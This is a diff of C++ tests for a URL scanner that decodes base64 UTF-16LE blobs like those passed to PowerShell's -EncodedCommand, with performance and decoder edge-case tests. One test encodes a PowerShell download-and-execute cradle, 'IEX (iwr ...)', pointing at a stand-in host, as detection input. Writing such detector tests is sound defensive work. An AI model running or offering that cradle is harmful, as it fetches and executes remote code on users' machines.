@@ -144,6 +144,32 @@ TEST(EncodedBase64, EachOfTheThreeAlignments) {
     }
 }
 
+/// ASCII text as UTF-16LE, as PowerShell's -EncodedCommand holds it.
+std::string utf16le(const std::string& ascii) {
+    std::string out;
+    for (const char c : ascii) {
+        out += c;
+        out += '\0';
+    }
+    return out;
+}
+
+TEST(EncodedBase64, Utf16LittleEndianAtEachAlignment) {
+    for (const std::string scheme : {"http://", "https://", "ftp://"}) {
+        for (const std::string prefix : {"", "A", "AB", "IEX (iwr '"}) {
+            const std::string url = scheme + "ps.example.org/a.ps1";
+            const std::string blob = base64(utf16le(prefix + url + "')"));
+            const auto found = scan_urls("powershell -enc " + blob + "\n", true);
+            ASSERT_EQ(found.size(), 1u) << blob << "\n" << describe(found);
+            EXPECT_EQ(found[0].value, url) << blob;
+            EXPECT_EQ(found[0].encoding, "base64");
+        }
+    }
+    // Every URL of a wide script, as for ASCII.
+    const std::string script = "$a='http://one.example/1'; $b='https://two.example/2'";
+    EXPECT_EQ(decoded("-enc " + base64(utf16le(script))), (V{"http://one.example/1", "https://two.example/2"}));
+}
+
 TEST(EncodedBase64, ABlobWithThreeUrlsGivesThreeValuesRefangedAndOneAsWritten) {
     const std::string blob =
         base64("visit http://a.example/1 or ftp://b.example/2\nsee https://c.example/3.");
@@ -242,6 +268,8 @@ TEST(EncodedLinear, TenMegabyteLinesWithoutUrls) {
         {"random base64", random_base64},
         {"aHaHaH", repeated("aH", 10u << 20)},
         {"base64 scheme prefixes", repeated("aHR0cDov", 10u << 20)},
+        {"UTF-16LE base64 prefixes", repeated("aAB0AHQAcAA6AC8A", 10u << 20)},
+        {"base64 of zero bytes", repeated("AAAA", 10u << 20)},
         {"odd line breaks", repeated("od\n", 10u << 20)},
         {"hex scheme prefixes", repeated("6874747", 10u << 20)},
         {"hex digits", repeated("68686868", 10u << 20)},
@@ -325,6 +353,12 @@ TEST(EncodedDecoders, BoundedAndForgiving) {
     EXPECT_EQ(out, "");
     detail::decode_base64("aGk*aGk=", out);
     EXPECT_EQ(out, "hi");
+    out = std::string("x\0h\0t\0t\0p\0", 10);
+    detail::narrow_utf16le(out);
+    EXPECT_EQ(out, "xhttp");
+    out = std::string("\0h\0tp", 6);
+    detail::narrow_utf16le(out);
+    EXPECT_EQ(out.size(), 6u);   // no wide scheme: bytes kept
 }
 
 }  // namespace
